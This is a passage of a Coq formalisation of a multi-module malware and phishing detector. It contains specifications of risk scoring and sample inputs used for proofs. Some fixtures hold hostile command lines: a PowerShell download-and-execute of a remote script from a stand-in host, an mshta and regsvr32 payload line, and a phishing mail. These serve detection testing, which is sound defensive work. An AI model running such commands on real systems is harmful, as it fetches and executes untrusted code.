     let final_confidence := Binary64.min (Binary64.of_Q 1.0) total_confidence in
     Ok [ ("overall_risk_score",
           Flt (Binary64.min (Binary64.of_Q 10.0) total_risk_score));
          ("threat_level", Obj (VStr threat_level));
          ("confidence", Flt final_confidence);
          ("threat_count", Obj (VNum (Num.of_nat threat_count))) ])
    (fun e =>
       [ ("overall_risk_score", Flt (Binary64.of_Q 0.0));
         ("threat_level", Obj (VStr "error"));
         ("confidence", Flt (Binary64.of_Q 0.0));
         ("threat_count", Obj (VNum 0));
         ("error", Obj (VStr (str_exn e))) ]).

Definition detect_threats (self : EnhancedThreatDetector) (w : World) (data : dict)
  : fields :=
  try_except
    (match run_modules (blocks_of (detectors self)) w data (initial_results w) with
     | (Raise e, _) => Raise e
     | (Ok _, results) =>
         (* Calculate ensemble decision *)
         let ensemble_decision := _calculate_ensemble_decision self results in
         Ok (update (of_dict results) ensemble_decision)
     end)
    (fun e =>
       [ ("timestamp", Obj (VStr (now_isoformat w)));
         ("threats_detected", Obj (VList []));
         ("threat_types", Obj (VList []));
         ("overall_risk_score", Flt (Binary64.of_Q 0.0));
         ("threat_level", Obj (VStr "error"));
         ("confidence", Flt (Binary64.of_Q 0.0));
         ("error", Obj (VStr (str_exn e))) ]).

(** Update detection module weights.  The handler prints the error and
    leaves [self.detection_weights] as it was. *)
Definition update_detection_weights (self : EnhancedThreatDetector) (new_weights : fields)
  : EnhancedThreatDetector :=
  try_except
    ((* Normalize weights *)
     total_weight <- sum (map snd new_weights) ;;
     if positive total_weight then
       normalized <-
         mapM (fun kv => v <- as_number (snd kv) ;;
                         q <- true_div v total_weight ;;
                         Ok (fst kv, q))
              new_weights ;;
       Ok {| detectors := detectors self; detection_weights := normalized |}
     else
       (* Reset to default weights *)
       Ok {| detectors := detectors self; detection_weights := default_weights |})
    (fun _ => self).

End Rounded.

(** ** Vocabulary of the properties *)

(** The dict [d] has the number [q] under [k], up to equality of
    rationals. *)
Definition num_field (d : dict) (k : string) (q : Q) : Prop :=
  exists q', dict_get d k = Some (VNum q') /\ q' == q.

(** The [results] dict of [detect_threats] while the modules run. *)
Definition results_of (w : World) (threats types : list value) (slots : dict) : dict :=
  [ ("timestamp", VStr (now_isoformat w));
    ("threats_detected", VList threats);
    ("threat_types", VList types);
    ("overall_risk_score", VNum 0.0);
    ("threat_level", VStr "low");
    ("confidence", VNum 0.0);
    ("module_results", VDict slots) ].

(** The modules of the coordinator, their names in [module_results] and
    in [detection_weights], and the key of the input bundle each one waits
    for. *)
Inductive module : Type :=
| Signature | FileAnalysis | Behavioral | Encrypted | SocialEngineering.

Definition module_name (m : module) : string :=
  match m with
  | Signature => "signature"
  | FileAnalysis => "file_analysis"
  | Behavioral => "behavioral"
  | Encrypted => "encrypted"
  | SocialEngineering => "social_engineering"
  end.

Definition input_key (m : module) : string :=
  match m with
  | Signature | FileAnalysis => "file_path"
  | Behavioral => "system_data"
  | Encrypted => "network_data"
  | SocialEngineering => "communication_data"
  end.

Definition applicable (m : module) (data : dict) : bool :=
  dict_mem data (input_key m).

(** The call that the block of module [m] makes to its detector. *)
Definition invoke (self : EnhancedThreatDetector) (w : World) (data : dict)
           (m : module) : exc dict :=
  match m with
  | Signature =>
      file_path <- dict_item data "file_path" ;;
      signature_detector (detectors self) w file_path
  | FileAnalysis =>
      file_path <- dict_item data "file_path" ;;
      file_analyzer (detectors self) w file_path
  | Behavioral =>
      behavioral_data <- behavioral_collect (detectors self) w ;;
      behavioral_analyze (detectors self) w behavioral_data
  | Encrypted =>
      network_data <- dict_item data "network_data" ;;
      encrypted_detector (detectors self) w network_data
  | SocialEngineering =>
      communication_data <- dict_item data "communication_data" ;;
      social_engineering_detector (detectors self) w communication_data
  end.

(** Whether the two [extend] calls of [merge_threats] go through on a
    returned result. *)
Definition merge_check (module_result : dict) : exc unit :=
  if truthy (dict_get_none module_result "threats_detected") then
    found <- dict_item module_result "threats_detected" ;;
    _ <- py_iter found ;;
    _ <- py_iter (dict_get_default module_result "threat_types" (VList [])) ;;
    Ok tt
  else Ok tt.

(** What the block of module [m] does with a returned result after it
    has stored it: the first two blocks cannot raise there. *)
Definition post_check (m : module) (module_result : dict) : exc unit :=
  match m with
  | Signature | FileAnalysis => Ok tt
  | Behavioral | Encrypted | SocialEngineering => merge_check module_result
  end.

(** The entry of [module_results] for [name] in a verdict. *)
Definition module_slot (verdict : dict) (name : string) : option value :=
  match dict_get verdict "module_results" with
  | Some (VDict slots) => dict_get slots name
  | _ => None
  end.

(** The coordinator with the weight entries of one module name removed. *)
Definition without_weight (name : string) (self : EnhancedThreatDetector)
  : EnhancedThreatDetector :=
  {| detectors := detectors self;
     detection_weights :=
       filter (fun item => negb (String.eqb (fst item) name)) (detection_weights self) |}.

(** The block of [detect_threats] for module [m]. *)
Definition run_block (self : EnhancedThreatDetector) (w : World) (data : dict)
           (m : module) : M unit :=
  match m with
  | Signature => run_signature self w data
  | FileAnalysis => run_file_analysis self w data
  | Behavioral => run_behavioral self w data
  | Encrypted => run_encrypted self w data
  | SocialEngineering => run_social_engineering self w data
  end.

(** What the block of module [m] leaves under the module's name: the
    returned result, or an error marker when the call or the merge of the
    threat records raised. *)
Definition stored_slot (self : EnhancedThreatDetector) (w : World) (data : dict)
           (m : module) : value :=
  match invoke self w data m with
  | Raise e => error_result e
  | Ok r =>
      match post_check m r with
      | Ok _ => VDict r
      | Raise e => error_result e
      end
  end.

Definition all_modules : list module :=
  [Signature; FileAnalysis; Behavioral; Encrypted; SocialEngineering].

Definition store_slot (self : EnhancedThreatDetector) (w : World) (data : dict)
           (slots : dict) (m : module) : dict :=
  if applicable m data
  then dict_set slots (module_name m) (stored_slot self w data m)
  else slots.

Definition final_slots (self : EnhancedThreatDetector) (w : World) (data : dict) : dict :=
  fold_left (store_slot self w data) all_modules [].

(** The verdict of [detect_threats] once the loop over the weights has
    ended with [outcome]: [results] updated with the ensemble decision. *)
Definition verdict_of (w : World) (threats types : list value) (slots : dict)
           (outcome : exc (Q * Q)) : dict :=
  match outcome with
  | Ok (total_risk_score, total_confidence) =>
      [ ("timestamp", VStr (now_isoformat w));
        ("threats_detected", VList threats);
        ("threat_types", VList types);
        ("overall_risk_score", VNum (Num.min 10.0 total_risk_score));
        ("threat_level",
         VStr (if Num.geb total_risk_score 7.0 then "high"
               else if Num.geb total_risk_score 4.0 then "medium"
               else "low"));
        ("confidence", VNum (Num.min 1.0 total_confidence));
        ("module_results", VDict slots);
        ("threat_count", VNum (Num.of_nat (List.length threats))) ]
  | Raise e =>
      [ ("timestamp", VStr (now_isoformat w));
        ("threats_detected", VList threats);
        ("threat_types", VList types);
        ("overall_risk_score", VNum 0.0);
        ("threat_level", VStr "error");
        ("confidence", VNum 0.0);
        ("module_results", VDict slots);
        ("threat_count", VNum 0);
        ("error", VStr (str_exn e)) ]
  end.

(** The loop of [_calculate_ensemble_decision] over the weights, on the
    per-module results [slots]. *)
Definition ensemble_totals (weights : weights) (slots : dict) : exc (Q * Q) :=
  foldM (ensemble_step [("module_results", VDict slots)]) weights (0.0, 0.0).

(** ** The aggregation rule, as the design document words it *)

Module Spec.

(** The result stored for a module name; a module that did not run has
    the empty result. *)
Definition result_of (slots : dict) (name : string) : dict :=
  match dict_get slots name with
  | Some (VDict r) => r
  | _ => []
  end.

(** The number under [k], [0] when there is none. *)
Definition number_at (r : dict) (k : string) : Q :=
  match dict_get r k with
  | Some (VNum q) => q
  | Some (VBool true) => 1
  | _ => 0
  end.

(** A positive verdict: [detected] is true, or [prediction] is malicious
    or suspicious. *)
Definition positive (name : string) (r : dict) : bool :=
  if String.eqb name "signature" then truthy (dict_get_none r "detected")
  else in_strings (dict_get_none r "prediction") ["malicious"; "suspicious"].

(** What one module adds to the risk total and to the confidence total,
    for each unit of its weight. *)
Definition contribution (name : string) (r : dict) : Q * Q :=
  if existsb (String.eqb name) ["signature"; "file_analysis"] then
    if positive name r
    then (number_at r "confidence" * 10, number_at r "confidence")
    else (0, 0)
  else if existsb (String.eqb name) ["behavioral"; "encrypted"; "social_engineering"] then
    (number_at r "overall_risk_score", number_at r "overall_risk_score" / 10)
  else (0, 0).

Fixpoint weighted_risk (weights : weights) (slots : dict) : Q :=
  match weights with
  | [] => 0
  | (name, weight) :: weights' =>
      weight * fst (contribution name (result_of slots name))
      + weighted_risk weights' slots
  end.


(** A non-error module result: a dict without an [error] key whose
    confidence and risk score, when it has them, are numbers. *)
Definition is_number (v : value) : bool :=
  match v with VNum _ | VBool _ => true | _ => false end.

Definition non_error_result (v : value) : bool :=
  match v with
  | VDict r =>
      negb (dict_mem r "error")
      && is_number (dict_get_default r "confidence" (VNum 0))
      && is_number (dict_get_default r "overall_risk_score" (VNum 0))
  | _ => false
  end.

Definition non_error_results (slots : dict) : bool :=
  forallb (fun slot => non_error_result (snd slot)) slots.

End Spec.

(** ** Sample inputs *)

(** A file system with one text file, a dropper script. *)
Definition dropper_world : World :=
  {| now_isoformat := "2024-05-01T12:00:00";
     fs := fun p =>
             if String.eqb p "/tmp/dropper.txt"
             then Some (RegularFile "cmd.exe /c powershell")
             else None;
     process_iter := Ok [];
     net_connections := Ok [];
     system_metrics := Ok (0, 0, 0) |}.

(** The SHA-256 digest of the bytes of that file, for every input. *)
Definition dropper_digest (content : string) : string :=
  "557dfb89a0bb895b1e3fc23f310f1211c3f5150e6ed7b26f81e2c52fe480a99a".

(** Decoding of ASCII bytes. *)
Definition ascii_text (raw : string) : string := raw.

(** Detectors of which only the behavioral one is installed: the shipped
    [BehavioralAnalyzer]; every other module raises when called. *)
Definition not_installed {A} (_ : World) (_ : A) : exc dict :=
  Raise (RuntimeError "module not installed").

Definition behavioral_only : Detectors :=
  {| signature_detector := not_installed;
     file_analyzer := not_installed;
     behavioral_collect := fun w => Ok (BehavioralAnalyzer.collect_behavioral_data w);
     behavioral_analyze := fun w d => Ok (BehavioralAnalyzer.analyze_behavior w d);
     encrypted_detector := not_installed;
     social_engineering_detector := not_installed |}.

(** A machine with no process and no connection, and the same machine
    with one PowerShell process. *)
Definition quiet_world : World :=
  {| now_isoformat := "2024-05-01T12:00:00";
     fs := fun _ => None;
     process_iter := Ok [];
     net_connections := Ok [];
     system_metrics := Ok (0, 0, 0) |}.

Definition powershell : proc_info :=
  {| pi_pid := 4242;
     pi_name := Some "powershell.exe";
     pi_cmdline := Some ["powershell.exe"; "-c"; "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"];
     pi_cpu_percent := Some 0;
     pi_memory_percent := Some 0 |}.

Definition busy_world : World :=
  {| now_isoformat := "2024-05-01T12:00:00";
     fs := fun _ => None;
     process_iter := Ok [powershell];
     net_connections := Ok [];
     system_metrics := Ok (0, 0, 0) |}.

(** An input bundle whose system snapshot is empty. *)
Definition empty_snapshot_bundle : dict :=
  [ ("system_data", VDict [ ("processes", VList []);
                            ("network_connections", VList []) ]) ].

(** A machine where that process holds one connection to port 4444 of a
    remote host. *)
Definition beacon_world (remote_ip : string) : World :=
  {| now_isoformat := "2024-05-01T12:00:00";
     fs := fun _ => None;
     process_iter := Ok [powershell];
     net_connections :=
       Ok [ {| sc_laddr := Some ("10.0.0.5", 50122%Z);
               sc_raddr := Some (remote_ip, 4444%Z);
               sc_status := "ESTABLISHED";
               sc_pid := Some 4242%Z |} ];
     system_metrics := Ok (0, 0, 0) |}.

(** Detectors of which the signature one raises. *)
Definition faulty_signature : Detectors :=
  {| signature_detector := fun _ _ => Raise (RuntimeError "boom");
     file_analyzer := not_installed;
     behavioral_collect := fun w => Ok (BehavioralAnalyzer.collect_behavioral_data w);
     behavioral_analyze := fun w d => Ok (BehavioralAnalyzer.analyze_behavior w d);
     encrypted_detector := not_installed;
     social_engineering_detector := not_installed |}.

(** ** The behavioral score, as the design document words it *)

Module BehaviorSpec.

(** The process's name is in the suspicious-process list. *)
Definition suspicious_name (p : proc_info) : bool :=
  match pi_name p with
  | Some name =>
      existsb (String.eqb (lower name))
              (map lower BehavioralAnalyzer.suspicious_processes)
  | None => false
  end.

(** The suspicious commands that occur in the process's command line. *)
Definition command_hits (p : proc_info) : list string :=
  match pi_cmdline p with
  | Some args =>
      filter (fun cmd => contains (lower cmd) (lower (join " " args)))
             BehavioralAnalyzer.suspicious_commands
  | None => []
  end.

(** The connection's remote port is one of 4444, 8080, 9999, 1337. *)
Definition malware_port (c : sconn) : bool :=
  match sc_raddr c with
  | Some (_, port) => existsb (Z.eqb port) [4444; 8080; 9999; 1337]%Z
  | None => false
  end.

Definition count {A} (f : A -> bool) (l : list A) : nat :=
  List.length (filter f l).

Fixpoint pairs (procs : list proc_info) : nat :=
  match procs with
  | [] => 0
  | p :: procs' => List.length (command_hits p) + pairs procs'
  end.

Definition fractional_score (procs : list proc_info) (conns : list sconn) : Q :=
  0.2 * Num.of_nat (count suspicious_name procs)
  + 0.3 * Num.of_nat (pairs procs)
  + 0.1 * Num.of_nat (count malware_port conns).

(** A process whose name and command line the collector could read. *)
Definition readable (p : proc_info) : bool :=
  match pi_name p, pi_cmdline p with
  | Some _, Some _ => true
  | _, _ => false
  end.

(** A connection without a remote end, or to a host whose address has
    no colon (an IPv4 address) on a port between 0 and 65535. *)
Definition ipv4 (c : sconn) : bool :=
  match sc_raddr c with
  | None => true
  | Some (host, port) =>
      negb (contains ":" host) && Z.leb 0 port && Z.leb port 65535
  end.

(** The text of a port number has no colon and reads back as the number. *)
Definition port_text_ok (port : Z) : bool :=
  match split_on ":" (str_Z port) with
  | [s] => String.eqb s (str_Z port)
           && match parse_int (str_Z port) with
              | Some z => Z.eqb z port
              | None => false
              end
  | _ => false
  end.

(** [f] holds of every number of [bits] binary digits after [prefix]. *)
Fixpoint all_below (bits : nat) (prefix : Z) (f : Z -> bool) : bool :=
  match bits with
  | O => f prefix
  | S bits' => all_below bits' (2 * prefix) f && all_below bits' (2 * prefix + 1) f
  end.

End BehaviorSpec.

(** ** Vocabulary of the further properties *)

(** The "type" field of a threat record. *)
Definition type_of (record : value) : value :=
  match record with
  | VDict d => dict_get_none d "type"
  | _ => VNone
  end.

(** The error-shaped result of a module: no finding, threat level
    "error", risk score 0.0 and the text of the exception. *)
Definition error_shaped (result : dict) : Prop :=
  dict_get result "threats_detected" = Some (VList [])
  /\ dict_get result "threat_types" = Some (VList [])
  /\ dict_get result "threat_level" = Some (VStr "error")
  /\ dict_get result "overall_risk_score" = Some (VNum 0.0)
  /\ dict_mem result "error" = true.

(** A machine where PowerShell runs beside a system process whose name
    and command line the caller may not read. *)
Definition guarded_world : World :=
  {| now_isoformat := "2024-05-01T12:00:00";
     fs := fun _ => None;
     process_iter :=
       Ok [ powershell;
            {| pi_pid := 4; pi_name := None; pi_cmdline := None;
               pi_cpu_percent := Some 0; pi_memory_percent := Some 0 |} ];
     net_connections := Ok [];
     system_metrics := Ok (0, 0, 0) |}.

(** ** The encrypted-traffic scores, item by item *)

Module EncryptedSpec.
Section WithLibraries.

Variable re_search : string -> string -> bool.

(** The lowercased host name contains one of the suspicious domains. *)
Definition suspicious_host (host : string) : bool :=
  existsb (fun suspicious => contains suspicious (lower host))
          EncryptedThreatDetector.suspicious_domains.

(** One of the DGA patterns is found in the lowercased query. *)
Definition dga_domain (query : string) : bool :=
  existsb (fun pattern => re_search pattern (lower query))
          EncryptedThreatDetector.dga_patterns.

(** The item is a dict whose "port" is one of 4444, 8080, 9999, 1337,
    31337. *)
Definition suspicious_port (conn : value) : bool :=
  match conn with
  | VDict d =>
      match dict_get d "port" with
      | Some port => in_numbers port EncryptedThreatDetector.suspicious_ports
      | None => false
      end
  | _ => false
  end.

(** Ten times the accumulated score of [detect_encrypted_threats]. *)
Definition points (hosts queries : list string) (conns : list value) : nat :=
  2 * BehaviorSpec.count suspicious_host hosts
  + 3 * BehaviorSpec.count dga_domain queries
  + BehaviorSpec.count suspicious_port conns.

(** The number of indicators of [detect_c2_communication] and ten times
    its accumulated score. *)
Definition c2_indicators (conns queries : list value) : nat :=
  (if Nat.ltb 10 (List.length conns) then 1 else 0)
  + BehaviorSpec.count suspicious_port conns
  + (if Nat.ltb 20 (List.length queries) then 1 else 0).

Definition c2_points (conns queries : list value) : nat :=
  (if Nat.ltb 10 (List.length conns) then 2 else 0)
  + 3 * BehaviorSpec.count suspicious_port conns
  + (if Nat.ltb 20 (List.length queries) then 2 else 0).

End WithLibraries.
End EncryptedSpec.

(** ** The checks of the social-engineering detector *)

Module SocialSpec.

(** One of the keywords occurs in the text. *)
Definition fired (keywords : list string) (text : string) : bool :=
  existsb (fun keyword => contains keyword text) keywords.

(** One of the keywords occurs in the content or in the subject. *)
Definition fired_in_either (keywords : list string) (content subject : string) : bool :=
  existsb (fun keyword => contains keyword content || contains keyword subject) keywords.

(** The text after the first "@" of the sender, up to the next one, is
    one of the listed mail domains. *)
Definition listed_sender (sender : string) : bool :=
  contains "@" sender
  && SocialEngineeringDetector._is_suspicious_domain
       (nth 1 (split_on "@" sender) "").

Definition shortened (url : string) : bool :=
  fired SocialEngineeringDetector.suspicious_urls (lower url).

Definition typosquatting (url : string) : bool :=
  fired [ "goog1e"; "amaz0n"; "paypa1"; "micr0soft"; "app1e" ] (lower url).

Definition suspicious_tld (url : string) : bool :=
  existsb (SocialEngineeringDetector.endswith (lower url)) [".tk"; ".ml"; ".ga"; ".cf"].

(** How many of the checks fired. *)
Definition how_many (checks : list bool) : nat :=
  List.length (filter (fun b : bool => b) checks).

(** The item is a string. *)
Definition is_text (v : value) : bool :=
  match v with VStr _ => true | _ => false end.

End SocialSpec.

(** Every part analysis, the error-shaped one too, starts with its
    verdict and its score, and is suspicious only when the score is
    above 0.3. *)
Definition part_shape (result : dict) : Prop :=
  exists suspicious score level rest,
    result = ("suspicious", VBool suspicious)
               :: ("risk_score", VNum score)
               :: ("risk_level", VStr level)
               :: rest
    /\ (suspicious = true -> 0.3 < score).

(** What the loops of [detect_social_engineering] keep: the type list
    follows the threat records, and the score is 0 without a record and
    above 0.3 with one. *)
Definition recorded (st : SocialEngineeringDetector.state) : Prop :=
  let '(threats, types, risk) := st in
  types = map type_of threats
  /\ 0 <= risk
  /\ (threats = [] -> risk == 0)
  /\ (threats <> [] -> 0.3 < risk).

(** ** The threat records of a verdict *)

(** The records that the last three blocks of [detect_threats] take over
    from a module result: its [threats_detected], when that is a
    non-empty list. *)
Definition merged_items (module_result : dict) : list value :=
  if truthy (dict_get_none module_result "threats_detected") then
    match dict_item module_result "threats_detected" with
    | Ok found => match py_iter found with Ok items => items | Raise _ => [] end
    | Raise _ => []
    end
  else [].

(** The records that the block of module [m] adds for a returned result. *)
Definition records_of (m : module) (module_result : dict) : list value :=
  match m with
  | Signature =>
      if truthy (dict_get_none module_result "detected")
      then [threat_record "Signature Match" module_result "signature"]
      else []
  | FileAnalysis =>
      if in_strings (dict_get_none module_result "prediction") ["malicious"; "suspicious"]
      then [threat_record "File-based Threat" module_result "file_analysis"]
      else []
  | Behavioral | Encrypted | SocialEngineering => merged_items module_result
  end.

Definition module_records (self : EnhancedThreatDetector) (w : World) (data : dict)
           (m : module) : list value :=
  if applicable m data then
    match invoke self w data m with
    | Ok module_result => records_of m module_result
    | Raise _ => []
    end
  else [].

(** ** File-only bundles *)

(** The coordinator's signature and file modules are the shipped
    [SignatureDetector] and [FileAnalyzer] on every path that is a
    string. *)
Definition shipped_file_modules (sha256_hexdigest decode_utf8_ignore splitext_ext
                                 : string -> string)
           (self : EnhancedThreatDetector) : Prop :=
  (forall w path,
      signature_detector (detectors self) w (VStr path)
      = Ok (SignatureDetector.detect_threats sha256_hexdigest decode_utf8_ignore w path))
  /\ (forall w path,
         file_analyzer (detectors self) w (VStr path)
         = Ok (FileAnalyzer.predict decode_utf8_ignore splitext_ext w path)).

(** The input bundle has the path [path] and no other part. *)
Definition file_only (data : dict) (path : string) : Prop :=
  dict_get data "file_path" = Some (VStr path)
  /\ dict_mem data "system_data" = false
  /\ dict_mem data "network_data" = false
  /\ dict_mem data "communication_data" = false.

(** The content digest of the file at [path], if it can be read, is not
    in the signature table. *)
Definition unlisted (sha256_hexdigest : string -> string) (w : World) (path : string)
  : Prop :=
  forall raw,
    fs w path = Some (RegularFile raw) ->
    SignatureDetector.lookup (sha256_hexdigest raw) SignatureDetector.signature_database
    = None.

(** Detectors that run the shipped signature detector and file analyzer
    on a path that is a string; the other modules are not installed. *)
Definition file_scanners (sha256_hexdigest decode_utf8_ignore splitext_ext
                          : string -> string) : Detectors :=
  {| signature_detector :=
       fun w file_path =>
         match file_path with
         | VStr path =>
             Ok (SignatureDetector.detect_threats
                   sha256_hexdigest decode_utf8_ignore w path)
         | _ => Raise (TypeError "expected str")
         end;
     file_analyzer :=
       fun w file_path =>
         match file_path with
         | VStr path => Ok (FileAnalyzer.predict decode_utf8_ignore splitext_ext w path)
         | _ => Raise (TypeError "expected str")
         end;
     behavioral_collect := fun _ => Raise (RuntimeError "module not installed");
     behavioral_analyze := not_installed;
     encrypted_detector := not_installed;
     social_engineering_detector := not_installed |}.

(** ** Advanced threats *)

(** The process has a readable name that, lowercased, is one of
    powershell.exe, wscript.exe, cscript.exe. *)
Definition script_host (p : proc_info) : bool :=
  match pi_name p with
  | Some name => existsb (String.eqb (lower name)) script_hosts
  | None => false
  end.

Definition named (p : proc_info) : bool :=
  match pi_name p with Some _ => true | None => false end.

(** The record that [detect_advanced_threats] makes for a process. *)
Definition fileless_record (p : proc_info) : value :=
  VDict [ ("type", VStr "Fileless Malware");
          ("confidence", VNum 0.6);
          ("indicators",
           VList [ VDict [ ("process", BehavioralAnalyzer.opt_value VStr (pi_name p));
                           ("cmdline",
                            BehavioralAnalyzer.opt_value
                              (fun l => VList (map VStr l)) (pi_cmdline p)) ] ]) ].

(** ** Further sample inputs *)

(** A file system with one installer that exists and cannot be opened. *)
Definition locked_world : World :=
  {| now_isoformat := "2024-05-01T12:00:00";
     fs := fun p =>
             if String.eqb p "/opt/setup.EXE" then Some (Unreadable 2048) else None;
     process_iter := Ok [];
     net_connections := Ok [];
     system_metrics := Ok (0, 0, 0) |}.

(** The extension of that path, for every input. *)
Definition installer_extension (path : string) : string := ".EXE".

(** A file system where the installer can be opened: a script, longer
    than the dropper, that names two of the nine patterns. *)
Definition installer_world : World :=
  {| now_isoformat := "2024-05-01T12:00:00";
     fs := fun p =>
             if String.eqb p "/opt/setup.EXE"
             then Some (RegularFile "regsvr32 /s payload.dll & mshta http://x/a.hta")
             else None;
     process_iter := Ok [];
     net_connections := Ok [];
     system_metrics := Ok (0, 0, 0) |}.

(** A search that finds no pattern. *)
Definition no_match (pattern text : string) : bool := false.

(** [str(x)] on whole numbers. *)
Definition number_text (v : value) : string :=
  match v with
  | VNum q => str_Z (Qnum q)
  | _ => ""
  end.

(** A coordinator whose weight map has an entry for a module that does
    not exist. *)
Definition with_heuristics : EnhancedThreatDetector :=
  {| detectors := behavioral_only;
     detection_weights := ("heuristics", 0.5) :: default_weights |}.

(** A phishing mail, and a list of links with a stray number in it. *)
Definition phishing_mail : dict :=
  [ ("subject", VStr "URGENT: your account");
    ("content", VStr "Click here to verify account immediately");
    ("sender", VStr "it-desk@gmail.com") ].

Definition links : dict :=
  [ ("urls", VList [VStr "http://goog1e.com/login"; VNum 7]) ].

(** Network data with one suspicious host, one suspicious port and a
    stray item among the connections. *)
Definition traffic : dict :=
  [ ("tls_hosts", VList [VStr "cdn.malware.com"]);
    ("connections", VList [VDict [("port", VNum 4444)]; VStr "stray"]) ].

(** ** The aggregation rule in binary64, as the design document words it *)

Module RoundedSpec.

(** The float of the number under [k], [0.0] when there is none. *)
Definition number_at (r : dict) (k : string) : Binary64.float :=
  match dict_get r k with
  | Some (VNum q) => Binary64.of_Q (Qred q)
  | Some (VBool true) => Binary64.of_Q 1
  | _ => Binary64.of_Q 0
  end.

(** What one module adds to the risk total and to the confidence total:
    weight x confidence x 10 and weight x confidence for a positive
    signature or file_analysis result, weight x overall_risk_score and
    weight x (overall_risk_score / 10) for behavioral, encrypted and
    social_engineering, every product and quotient rounded; nothing
    otherwise, which for a total in floats is what adding 0.0 comes to. *)
Definition contribution (name : string) (weight : Binary64.float) (r : dict)
  : option (Binary64.float * Binary64.float) :=
  if existsb (String.eqb name) ["signature"; "file_analysis"] then
    if Spec.positive name r then
      let confidence := number_at r "confidence" in
      Some (Binary64.mul (Binary64.mul weight confidence) (Binary64.of_Q 10),
            Binary64.mul weight confidence)
    else None
  else if existsb (String.eqb name) ["behavioral"; "encrypted"; "social_engineering"] then
    let risk_score := number_at r "overall_risk_score" in
    Some (Binary64.mul weight risk_score,
          Binary64.mul weight (Binary64.div risk_score (Binary64.of_Q 10)))
  else None.

(** An error-shaped result counts for nothing. *)
Definition counted (name : string) (weight : Binary64.float) (r : dict)
  : option (Binary64.float * Binary64.float) :=
  if dict_mem r "error" then None else contribution name weight r.

(** The totals after one more weighted module. *)
Definition accumulate (slots : dict) (totals : Binary64.float * Binary64.float)
           (item : string * Binary64.float) : Binary64.float * Binary64.float :=
  match counted (fst item) (snd item) (Spec.result_of slots (fst item)) with
  | Some (risk, confidence) =>
      (Binary64.add (fst totals) risk, Binary64.add (snd totals) confidence)
  | None => totals
  end.

(** The accumulated weighted risk and the accumulated weighted confidence:
    from 0.0, one weighted module after the other, in the order of the
    weight map. *)
Definition totals (weights : Rounded.weights) (slots : dict)
  : Binary64.float * Binary64.float :=
  fold_left (accumulate slots) weights (Binary64.of_Q 0, Binary64.of_Q 0).

(** A number that a float can hold. *)
Definition in_range (v : value) : bool :=
  match v with
  | VNum q => Binary64.is_finite (Binary64.of_Q (Qred q))
  | VBool _ => true
  | _ => false
  end.

(** The confidence and the risk score of a result, when it has them, are
    such numbers. *)
Definition countable (r : dict) : bool :=
  in_range (dict_get_default r "confidence" (VNum 0))
  && in_range (dict_get_default r "overall_risk_score" (VNum 0)).

(** A non-error module result: a dict without an [error] key whose
    confidence and risk score are numbers. *)
Definition non_error_result (v : value) : bool :=
  match v with
  | VDict r => negb (dict_mem r "error") && countable r
  | _ => false
  end.

Definition non_error_results (slots : dict) : bool :=
  forallb (fun slot => non_error_result (snd slot)) slots.

(** A module result of either kind: error-shaped, or with numbers for
    confidence and risk score. *)
Definition module_result (v : value) : bool :=
  match v with
  | VDict r => dict_mem r "error" || countable r
  | _ => false
  end.

Definition module_results (slots : dict) : bool :=
  forallb (fun slot => module_result (snd slot)) slots.

(** The dict [d] (a decision or a verdict) reports the accumulated
    weighted risk and confidence [totals] as the design document says:
    clamped scores, and the threat level by the two thresholds, all
    comparisons being those of floats. *)
Definition aggregated (d : Rounded.fields) (totals : Binary64.float * Binary64.float)
  : Prop :=
  let risk := fst totals in
  let confidence := snd totals in
  Rounded.get d "overall_risk_score"
  = Some (Rounded.Flt (Binary64.min (Binary64.of_Q 10) risk))
  /\ Rounded.get d "confidence"
     = Some (Rounded.Flt (Binary64.min (Binary64.of_Q 1) confidence))
  /\ exists level,
       Rounded.get d "threat_level" = Some (Rounded.Obj (VStr level))
       /\ (level = "high" <-> Binary64.leb (Binary64.of_Q 7) risk = true)
       /\ (level = "medium" <->
           Binary64.leb (Binary64.of_Q 4) risk = true
           /\ Binary64.ltb risk (Binary64.of_Q 7) = true)
       /\ (level = "low" <-> Binary64.leb (Binary64.of_Q 4) risk = false).

(** The call that the block of module [m] makes to its detector. *)
Definition invoke (self : Rounded.EnhancedThreatDetector) (w : World) (data : dict)
           (m : module) : exc dict :=
  invoke (Rounded.blocks_of (Rounded.detectors self)) w data m.

(** The threat records that the block of module [m] adds. *)
Definition records (self : Rounded.EnhancedThreatDetector) (w : World) (data : dict)
           (m : module) : list value :=
  module_records (Rounded.blocks_of (Rounded.detectors self)) w data m.

(** The entry of [module_results] for [name] in a verdict. *)
Definition module_slot (verdict : Rounded.fields) (name : string) : option value :=
  match Rounded.get verdict "module_results" with
  | Some (Rounded.Obj (VDict slots)) => dict_get slots name
  | _ => None
  end.

(** The coordinator with the weight entries of one module name removed. *)
Definition without_weight (name : string) (self : Rounded.EnhancedThreatDetector)
  : Rounded.EnhancedThreatDetector :=
  {| Rounded.detectors := Rounded.detectors self;
     Rounded.detection_weights :=
       filter (fun item => negb (String.eqb (fst item) name))
              (Rounded.detection_weights self) |}.

(** The ensemble decision of [_calculate_ensemble_decision] once the loop
    over the weights has ended with [outcome]. *)
Definition decision_of (threat_count : nat)
           (outcome : exc (Binary64.float * Binary64.float)) : Rounded.fields :=
  match outcome with
  | Ok (total_risk_score, total_confidence) =>
      [ ("overall_risk_score",
         Rounded.Flt (Binary64.min (Binary64.of_Q 10.0) total_risk_score));
        ("threat_level",
         Rounded.Obj
           (VStr (if Binary64.leb (Binary64.of_Q 7.0) total_risk_score then "high"
                  else if Binary64.leb (Binary64.of_Q 4.0) total_risk_score then "medium"
                  else "low")));
        ("confidence", Rounded.Flt (Binary64.min (Binary64.of_Q 1.0) total_confidence));
        ("threat_count", Rounded.Obj (VNum (Num.of_nat threat_count))) ]
  | Raise e =>
      [ ("overall_risk_score", Rounded.Flt (Binary64.of_Q 0.0));
        ("threat_level", Rounded.Obj (VStr "error"));
        ("confidence", Rounded.Flt (Binary64.of_Q 0.0));
        ("threat_count", Rounded.Obj (VNum 0));
        ("error", Rounded.Obj (VStr (str_exn e))) ]
  end.

(** The verdict of [detect_threats] once the loop over the weights has
    ended with [outcome]: [results] updated with the ensemble decision. *)
Definition verdict_of (w : World) (threats types : list value) (slots : dict)
           (outcome : exc (Binary64.float * Binary64.float)) : Rounded.fields :=
  match outcome with
  | Ok (total_risk_score, total_confidence) =>
      [ ("timestamp", Rounded.Obj (VStr (now_isoformat w)));
        ("threats_detected", Rounded.Obj (VList threats));
        ("threat_types", Rounded.Obj (VList types));
        ("overall_risk_score",
